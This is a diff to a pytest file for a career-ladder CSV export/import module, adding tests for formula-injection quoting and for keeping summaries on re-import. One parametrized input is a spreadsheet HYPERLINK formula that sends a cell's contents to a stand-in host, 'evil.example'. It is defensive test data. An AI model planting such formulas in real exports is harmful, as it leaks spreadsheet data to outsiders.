@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+from dataclasses import replace
+
 import pytest
 
 from app.ladders.formats import LadderFormatError, export_csv, parse
@@ -113,5 +117,36 @@ def test_export_then_parse_gives_back_the_competencies():
 
 def test_export_writes_names_and_joined_tracks():
     lines = export_csv(parse_csv(CSV)).split("\n")
-    assert lines[0] == "track,level,category,competency,description,examples"
+    assert lines[0] == (
+        "track,level,category,competency,description,examples,key,track_key,level_key,category_key"
+    )
     assert lines[1].startswith("ic|manager,Engineer I,Craft,Writes tests,")
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "'=x"],
+)
+def test_export_quotes_cells_a_spreadsheet_would_run_and_import_unquotes_them(title):
+    spec = parse_csv(CSV)
+    first = replace(spec.competencies[0], title=title, description=title, examples=(title,))
+    spec = replace(spec, competencies=(first, *spec.competencies[1:]))
+    text = export_csv(spec)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["competency"] == row["description"] == row["examples"] == "'" + title
+    back = parse_csv(text).competencies[0]
+    assert (back.title, back.description, back.examples) == (title, title, (title,))
+
+
+def test_a_summary_whose_row_was_deleted_is_kept_when_reimporting():
+    from app.ladders.formats import carry_over
+
+    spec = parse_csv(CSV)
+    craft = replace(spec.categories[0], summary="Code")
+    spec = replace(spec, categories=(craft, *spec.categories[1:]))
+    rows = list(csv.reader(io.StringIO(export_csv(spec))))
+    assert rows[1][-1] == "Code"  # the first Craft row carries the summary
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows([rows[0], *rows[2:]])
+    again = carry_over(spec, parse_csv(out.getvalue()))
+    assert again.categories[0].summary == "Code"
